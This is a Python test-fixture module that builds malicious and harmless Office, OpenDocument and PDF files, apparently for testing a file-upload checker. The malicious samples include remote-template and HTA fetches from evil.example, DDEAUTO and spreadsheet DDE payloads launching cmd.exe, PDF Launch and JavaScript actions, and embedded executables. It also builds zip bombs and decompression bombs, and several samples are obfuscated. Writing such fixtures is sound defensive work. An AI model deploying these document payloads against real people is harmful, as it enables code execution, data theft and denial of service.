"""Files that must not come in, and small good ones beside them, built in memory."""

import io
import zipfile
import zlib

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, NumberObject, TextStringObject

OFFICE = "application/vnd.openxmlformats-officedocument."
MAIN = {
    "docx": ("word/document.xml", OFFICE + "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", OFFICE + "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", OFFICE + "presentationml.presentation.main+xml"),
}
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"


def archive(parts: dict, method=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as new:
        for name, content in parts.items():
            new.writestr(name, content)
    return buffer.getvalue()


def office(kind: str = "docx", content_type: str = "", encoding: str = "utf-8", **more) -> bytes:
    """A small DOCX, XLSX or PPTX; `more` are further parts."""
    part, main = MAIN[kind]
    types = f'<?xml version="1.0"?><Types><Override PartName="/{part}" ContentType="{content_type or main}"/></Types>'
    return archive({"[Content_Types].xml": types.encode(encoding), part: "<x/>"} | more)


def open_document(kind: str = "text", **more) -> bytes:
    return archive({"mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": "<x/>"} | more)


RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
SPACES = (
    'xmlns:x="http://www.w3.org/1999/xlink" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
)


def related(
    kind: str, target: str, mode: str = "External", part: str = "word/_rels/document.xml.rels", **more
) -> bytes:
    """A DOCX with a relationship."""
    row = f'<Relationship Id="r1" Type="{RELATIONS}{kind}" Target="{target}" TargetMode="{mode}"/>'
    return office(**{part: f"<Relationships>{row}</Relationships>"} | more)


def naming(element: str, target: str, part: str = "content.xml") -> bytes:
    """An ODT with an element that names something."""
    return open_document(**{part: f'<o {SPACES}><{element} x:href="{target}"/></o>'})


WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
EXCEL = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
MATH = 'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"'
BEGIN, SEPARATE, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))


def code(*runs: str) -> str:
    return "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)


def words(content: str, part: str = "word/document.xml", encoding: str = "utf-8") -> bytes:
    """A DOCX with these elements."""
    return office(**{part: f"<w:p {WORD}>{content}</w:p>".encode(encoding)})


def field(*runs: str, **more) -> bytes:
    """A DOCX with a field whose code is split over runs."""
    return words(BEGIN + code(*runs) + SEPARATE + "<w:r><w:t>Neni 1</w:t></w:r>" + END, **more)


def sheet(formula: str, part: str = "xl/worksheets/sheet1.xml") -> bytes:
    """An XLSX with a formula."""
    return office("xlsx", **{part: f"<worksheet {EXCEL}><c><f>{formula}</f><v>1</v></c></worksheet>"})


def open_sheet(formula: str) -> bytes:
    """An ODS with a formula."""
    spaces = 'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    return open_document("spreadsheet", **{"content.xml": f'<o {spaces}><table:c table:formula="{formula}"/></o>'})


TEMPLATE = "word/_rels/settings.xml.rels"
FETCHING = [
    ("docx", related("attachedTemplate", "https://evil.example/a.dotm", part=TEMPLATE)),
    ("docx", related("attachedTemplate", r"\\evil.example\a.dotm", part=TEMPLATE.upper())),
    ("docx", related("attachedTemplate", "https://evil.example/a.dotm", mode="Internal", part=TEMPLATE)),
    ("docx", related("image", "https://evil.example/a.png")),
    ("docx", related("oleObject", "https://evil.example/a.hta")),
    ("docx", related("attachedTemplate", r"file:///\\evil.example\a.dotm", part=TEMPLATE)),
    ("docx", related("attachedTemplate", "file:///%5C%5Cevil.example%5Ca.dotm", part=TEMPLATE)),
    ("docx", related("frame", "file://evil.example/a")),
    ("docx", field('INCLUDEPICTURE "https://evil.example/a.png" \\d')),
    ("docx", field("INCLUDE", r'TEXT "\\\\evil.example\\a.docx"')),
    ("docx", field(" IMPORT https://evil.example/a.png", part="word/header1.xml")),
    ("xlsx", sheet("WEBSERVICE(&quot;https://evil.example/&quot;)")),
    ("xlsx", sheet("1+_xlfn.WEB&#83;ERVICE (A1)")),
    ("xlsx", sheet("_xlfn.IMAGE(&quot;https://evil.example/a.png&quot;)")),
    ("xlsx", office("xlsx", **{"xl/connections.xml": f'<c {EXCEL}><connection refreshOnLoad="1"/></c>'})),
    ("ods", open_sheet("of:=COM.MICROSOFT.WEBSERVICE([.A1])")),
    *(
        ("odt", naming(*each))
        for each in (
            ("draw:image", "https://evil.example/a.png"), ("draw:image", "//evil.example/a.png"),
            ("draw:object", "../other.odt"), ("text:section-source", "file:///etc/passwd"),
            ("draw:image", "https://evil.example/a.png", "styles.xml"),
            ("draw:image", "https://evil.example/a.png", "Object 1/content.xml"),
            ("meta:template", "https://evil.example/a.ott", "meta.xml"),
            ("meta:template", "file://evil.example/a.ott", "meta.xml"),
            ("meta:auto-reload", "https://evil.example/", "meta.xml"),
        )
    ),
]  # fmt: skip
CHART_DATA = "word/embeddings/Microsoft_Excel_Worksheet.xlsx"
HOLDING_FILES = [
    ("docx", office(**{"word/embeddings/oleObject1.bin": b"x"})),
    ("docx", office(**{"word/embeddings/letter.docx": office()})),
    ("docx", office(**{CHART_DATA: office("xlsx", **{"xl/embeddings/again.xlsx": office("xlsx")})})),
    ("docx", related("package", "embeddings/letter.docx", mode="Internal")),
    ("docx", office(**{"word/other.BIN": b"x"})),
    ("docx", related("oleObject", "media/a.wmf", mode="Internal")),
    ("docx", related("aFChunk", "a.rtf", mode="Internal")),
    ("odt", open_document(**{"Object 1": b"x"})),
    ("odt", naming("draw:object-ole", "./Object 1")),
]
ACTING = [
    ("docx", office(**{CHART_DATA: office("xlsx", MACROS)})),
    ("docx", office(**{CHART_DATA: office("xlsx", **{"xl/vbaProject.bin": b"x"})})),
    ("odt", open_document(**{"Object 1/Basic/Standard/Module1.xml": b"x"})),
    ("docx", field("DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/c calc&quot;")),
    ("docx", field("D", "DE", "AUTO c:\\\\windows\\\\cmd.exe")),
    ("docx", field("&#68;DE cmd x")),
    ("docx", field("DDEAUTO&quot;cmd&quot; x")),
    ("docx", words(BEGIN + code("D") + BEGIN + code("QUOTE 68 69") + SEPARATE + END + code(" cmd") + SEPARATE + END)),
    ("docx", field("dde cmd x", part="word/footnotes.xml")),
    ("docx", field("dde cmd x", part="word/text.png")),
    ("docx", field("DDE cmd x", encoding="utf-16")),
    ("docx", words('<w:fldSimple w:instr=" DDEAUTO cmd x "/>')),
    ("docx", words(BEGIN + code("IF 1=1 ") + BEGIN + code("DDE cmd x") + SEPARATE + END + SEPARATE + END)),
    ("docx", words(BEGIN + BEGIN + code("QUOTE 68 68 69") + SEPARATE + END + code(" cmd x") + SEPARATE + END)),
    ("docx", words(BEGIN + "<w:r><w:t>DD</w:t></w:r>" + code("E cmd x") + END)),
    ("docx", office(**{CHART_DATA: sheet("cmd|'/c calc'!A0")})),
    ("xlsx", sheet("cmd|'/c calc'!A0")),
    ("xlsx", sheet("1+'cmd' | '/c calc'!A0", part="xl/other.xml")),
    ("xlsx", sheet("RTD(&quot;x&quot;,,1)")),
    ("xlsx", office("xlsx", **{"xl/externalLinks/externalLink1.xml": f'<x {EXCEL}><ddeLink ddeService="cmd"/></x>'})),
    ("xlsx", office("xlsx", **{"xl/workbook.xml": f"<x {EXCEL}><definedName>cmd|'x'!A0</definedName></x>"})),
    ("ods", open_sheet("of:=DDE(&quot;soffice&quot;;&quot;/etc/passwd&quot;;&quot;A1&quot;)")),
    ("ods", open_sheet("msoxl:=cmd|'/c calc'!A0")),
    ("odt", naming("text:dde-connection-decl", "")),
    ("ods", naming("text:dde-link", "").replace(b"opendocument.text", b"opendocument.spreadsheet")),
    ("odt", naming("script:event-listener", "#x")),
    ("odt", naming("text:a", "vnd.sun.star.script:x.Main?language=Basic")),
    ("odt", open_document(**{"styles.xml": '<!DOCTYPE o [<!ENTITY a "x">]><o>&a;</o>'})),
    ("docx", office(**{TEMPLATE: '<!DOCTYPE o [<!ENTITY a "x">]><o/>'})),
]
HARMLESS = [
    ("docx", related("package", "../embeddings/book.xlsx", mode="Internal", **{CHART_DATA: office("xlsx")})),
    ("docx", related("hyperlink", "https://gzk.rks-gov.net/")),
    *(("docx", field(*runs)) for runs in (["TOC \\o"], ["PA", "GE"], ['HYPERLINK "https://x.org/"'], ["= 1 | 2"])),
    ("docx", words(BEGIN + code("IF ") + BEGIN + code("PAGE") + SEPARATE + END + code("=1 &quot;DDE&quot;") + END)),
    ("docx", words(BEGIN + code("IF") + BEGIN + code("PAGE") + SEPARATE + END + code("=1 1 2") + SEPARATE + END)),
    ("docx", words("<w:r><w:t>DDEAUTO, INCLUDETEXT, instrText</w:t></w:r>")),
    ("docx", words(f"<m:f {MATH}><m:num><m:t>|x|</m:t></m:num></m:f>" + code("nothing is begun"))),
    ("xlsx", sheet("SUM(A1:B2)&amp;&quot;a|b DDE(&quot;&amp;'2024 | IMAGE('!A1")),
    ("xlsx", office("xlsx", **{"xl/sharedStrings.xml": f"<sst {EXCEL}><si><t>cmd|x WEBSERVICE(</t></si></sst>"})),
    ("ods", open_sheet("of:=SUM({1;2|3;4})")),
    ("docx", related("attachedTemplate", "file:///C:\\Users\\ana\\Letter.dotx", part=TEMPLATE)),
    ("docx", related("image", "media/a.png", mode="Internal", **{"word/media/a.png": b"x"})),
    ("docx", related("image", "/word/media/a.png", mode="Internal")),
    ("xlsx", office("xlsx", **{"xl/printerSettings/printerSettings1.bin": b"x"})),
    ("odt", naming("text:a", "https://gzk.rks-gov.net/")),
    ("odt", naming("draw:a", "mailto:ana@example.org")),
    ("odt", naming("draw:image", "Pictures/a.png")),
    ("odt", naming("draw:object", "./Object 1")),
    ("odt", naming("text:note", "#note1")),
    ("odt", naming("meta:template", "file:///home/ana/letter.ott", "meta.xml")),
    ("odt", open_document(**{"META-INF/manifest.xml": "<!DOCTYPE x><x/>", "Configurations2/current.xml": b""})),
    ("odt", open_document(**{"Object 1/content.xml": "<math/>"})),
]


# Small when packed: what is meant to keep whoever checks it busy.
SWOLLEN = '<Relationship Id="r" Type="x/hyperlink" Target="a"/>'
TOO_MUCH = [
    office(**{"word/_rels/document.xml.rels": f"<Relationships>{SWOLLEN * 50_000}</Relationships>"}),
    office(**{f"word/_rels/{number}.xml.rels": f"<r>{SWOLLEN * 10_000}</r>" for number in range(6)}),
    words(BEGIN + code("PAGE") + END + "<w:r/>" * 1_500_000),
]


def encrypted_archive() -> bytes:
    """A DOCX with the bit that says that its parts are locked."""
    content = bytearray(office())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(signature)
        while place >= 0:
            content[place + offset] |= 1
            place = content.find(signature, place + 1)
    return bytes(content)


def overlapping_archive(copies: int = 600) -> bytes:
    """Many names for the same packed bytes (https://www.bamsoftware.com/hacks/zipbomb/)."""
    buffer = io.BytesIO(archive({"word/document.xml": bytes(300_000)}))
    with zipfile.ZipFile(buffer, "a") as bomb:
        first = bomb.infolist()[0]
        for number in range(copies):
            twin = zipfile.ZipInfo(f"word/{number}.xml")
            for name in ("header_offset", "file_size", "compress_size", "CRC", "compress_type", "flag_bits"):
                setattr(twin, name, getattr(first, name))
            bomb.filelist.append(twin)
        bomb._didModify = True
    return buffer.getvalue()


def pdf(text: str = "", title: str = "", pages: int = 1, change=None, password: str = "") -> bytes:
    """A PDF with these words on each page; `change` does something to the writer."""
    writer = PdfWriter()
    for _page in range(pages):
        page = writer.add_blank_page(200, 200)
        if text:
            _write(writer, page, text)
    if title:
        writer.add_metadata({"/Title": title})
    if change:
        change(writer)
    if password is not None and password != "":
        writer.encrypt(password)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _write(writer, page, text):
    font = DictionaryObject(
        {NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
         NameObject("/BaseFont"): NameObject("/Helvetica")}
    )  # fmt: skip
    fonts = DictionaryObject({NameObject("/F1"): writer._add_object(font)})
    page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts})
    stream = DecodedStreamObject()
    stream.set_data(f"BT /F1 12 Tf 10 100 Td ({text}) Tj ET".encode())
    page[NameObject("/Contents")] = writer._add_object(stream)


def runs(kind: str):
    """Makes a PDF do something when it is opened."""

    def change(writer):
        action = {NameObject("/S"): NameObject(kind), NameObject("/JS"): TextStringObject("app.alert(1)")}
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(action))

    return change


def runs_from_a_link(writer):
    """The program hangs on a place of the first page."""
    action = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
    link = DictionaryObject(
        {NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action,
         NameObject("/Rect"): ArrayObject(map(NumberObject, (0, 0, 9, 9)))}
    )  # fmt: skip
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])


def runs_by_name(writer):
    """The program stands in the document's list of programs."""
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x")})
    listed = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), action])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): listed})


def attaches(writer):
    """The PDF carries another file."""
    writer.add_attachment("x.exe", b"MZ")


def swollen_pdf() -> bytes:
    """A page whose text unpacks to some 100 MB."""

    def change(writer):
        stream = DecodedStreamObject()
        stream.set_data(b"BT (" + b"a" * 100_000_000 + b") Tj ET")
        writer.pages[0][NameObject("/Contents")] = writer._add_object(stream.flate_encode())

    return pdf(change=change)


def endless_pdf() -> bytes:
    """Pages whose tree is its own child."""

    def change(writer):
        pages = writer._root_object["/Pages"].get_object()
        pages[NameObject("/Kids")] = ArrayObject([writer._root_object.raw_get("/Pages")])
        pages[NameObject("/Count")] = NumberObject(10**9)

    return pdf(change=change)


def raw_pdf(*objects: bytes, catalog: bytes = b"", page: bytes = b"", unlisted: bytes = b"") -> bytes:
    """A whole PDF of one page with these objects, from 4 on; `unlisted` stands before the list of places."""
    first = [b"<</Type/Catalog/Pages 2 0 R %s>>" % catalog, b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
             b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9] %s>>" % page]  # fmt: skip
    content, places = b"%PDF-1.7\n", []
    for number, each in enumerate([*first, *objects], 1):
        places.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    content += unlisted
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(places) + 1
    end = b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R>>\n" % (size, table, size)
    return content + end + b"startxref\n%d\n%%%%EOF\n" % len(content)


def stream(content: bytes, facts: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), facts, content)


def packed(*objects: bytes, facts: bytes = b"", pack=lambda content: content) -> bytes:
    """A stream of objects, from number 50 on."""
    body, places = b" ".join(objects), []
    for number in range(len(objects)):
        places += [50 + number, sum(len(before) + 1 for before in objects[:number])]
    head = b" ".join(b"%d" % place for place in places) + b" "
    return stream(pack(head + body), b"/Type/ObjStm /N %d /First %d %s" % (len(objects), len(head), facts))


def annotation(facts: bytes) -> bytes:
    return b"/Annots [<</Type/Annot/Rect[0 0 9 9] %s>>]" % facts


URI, OPENS = b"<</S/URI/URI(https://evil.example/)>>", b"/OpenAction 50 0 R"
PROGRAM = b"<</S/JavaScript/JS(app.alert(1))>>"
ACTIONS = [
    b"/JavaScript/JS(x)", b"/Launch/F(cmd.exe)", b"/SubmitForm/F(https://evil.example/)", b"/ImportData/F(x)",
    b"/GoToR/F(\\\\\\\\evil\\\\share)/D[0]", b"/GoToE/D[0]", b"/Thread/F(x)", b"/Sound/Sound 9 0 R",
    b"/Movie", b"/Hide/T(x)", b"/ResetForm", b"/SetOCGState/State[]", b"/Rendition/OP 0", b"/Trans", b"/GoTo3DView",
    b"/RichMediaExecute", b"/Named/N/Print", b"/L#61unch/F(cmd.exe)",
]  # fmt: skip
ACTIVE_PDFS = [
    *(raw_pdf(catalog=b"/OpenAction<</S%s>>" % action) for action in ACTIONS),
    *(raw_pdf(page=annotation(b"/Subtype/Link/A<</S%s>>" % action)) for action in ACTIONS),
    *(raw_pdf(packed(b"<</S%s>>" % action), catalog=OPENS) for action in ACTIONS),
    raw_pdf(packed(PROGRAM, facts=b"/Filter/ASCIIHexDecode", pack=lambda c: c.hex().encode() + b">"), catalog=OPENS),
    raw_pdf(
        packed(
            PROGRAM,
            facts=b"/Filter[/ASCIIHexDecode/FlateDecode]",
            pack=lambda c: zlib.compress(c).hex().encode() + b">",
        ),
        catalog=OPENS,
    ),
    raw_pdf(packed(b"<</X/Hide>>", facts=b"/Filter/Unknown")),
    raw_pdf(stream(zlib.compress(b"50 0 <</S/Hide>>"), b"/N 1/First 5/Filter/FlateDecode")),
    raw_pdf(b"<</S 5 0 R>>", b"/Hide"),
    raw_pdf(catalog=b"/OpenAction" + URI),
    raw_pdf(b"<</S/URI/URI(https://evil.example/)>>", catalog=b"/OpenAction 4 0 R"),
    raw_pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[%s]>>" % URI),
    raw_pdf(packed(b"<</S/GoTo/D[3 0 R/Fit]/Next 51 0 R>>", URI), catalog=OPENS, unlisted=b"50 0 obj " + URI),
    raw_pdf(page=b"/AA<</O%s>>" % URI),
    raw_pdf(page=annotation(b"/Subtype/Widget/AA<</E<</S/GoTo/D[3 0 R/Fit]>>>>")),
    raw_pdf(b"<</Type/Outlines/First 5 0 R>>", b"<</Title(x)/A<</S/Launch/F(cmd.exe)>>>>", catalog=b"/Outlines 4 0 R"),
    raw_pdf(catalog=b"/AcroForm<</XFA 4 0 R>>"),
    raw_pdf(stream(b"", b"/Type/XObject/F(https://evil.example/)")),
    raw_pdf(stream(b"", b"/Type/XObject/Subtype/Form/Ref<</F(x.pdf)>>")),
    raw_pdf(page=annotation(b"/Subtype/RichMedia")),
    raw_pdf(page=annotation(b"/Subtype/Screen")),
    raw_pdf(page=annotation(b"/Subtype/FileAttachment/FS 4 0 R")),
    raw_pdf(b"<</Type/Filespec/F(x.exe)/EF<</F 5 0 R>>>>", stream(b"MZ")),
    raw_pdf(stream(b"MZ", b"/Type/EmbeddedFile")),
    raw_pdf(unlisted=b"9 0 obj <</S/Hide>> endobj\n"),
]
QUIET_PDFS = [
    raw_pdf(page=annotation(b"/Subtype/Link/A" + URI)),
    raw_pdf(page=annotation(b"/Subtype/Link/A<</S/GoTo/D[3 0 R/Fit]/Next%s>>" % URI)),
    raw_pdf(page=annotation(b"/Subtype/Link/A<</S/Named/N/NextPage>>")),
    raw_pdf(page=annotation(b"/Subtype/Link/Dest[3 0 R/Fit]/F 4")),
    raw_pdf(catalog=b"/OpenAction[3 0 R/Fit]"),
    raw_pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
    raw_pdf(packed(b"<</S/GoTo/D[3 0 R/Fit]>>"), packed(b"<</Type/Page/Trans<</S/Wipe>>>>"), catalog=OPENS),
    raw_pdf(b"<</Title(JavaScript)/A<</S/GoTo/D[3 0 R/Fit]>>/AA<<>>>>", catalog=b"/Outlines 4 0 R"),
    raw_pdf(page=b"/Resources<</XObject<</AA 4 0 R/EF 4 0 R>>/Font<</AA<</Type/Font>>>>>>"),
    raw_pdf(b"<</Type/StructElem/S/Link/A<</O/Layout>>>>", page=b"/Group<</S/Transparency>>"),
    raw_pdf(page=b"/Resources<</ExtGState<</AA<</SMask<</S/Luminosity>>>>>>>>"),
    raw_pdf(catalog=b"/AcroForm<</Fields[]>>"),
]


def locked(writer) -> None:
    """Opens without a password, and forbids what its maker did not like."""
    writer.encrypt("", "owner", algorithm="RC4-128")
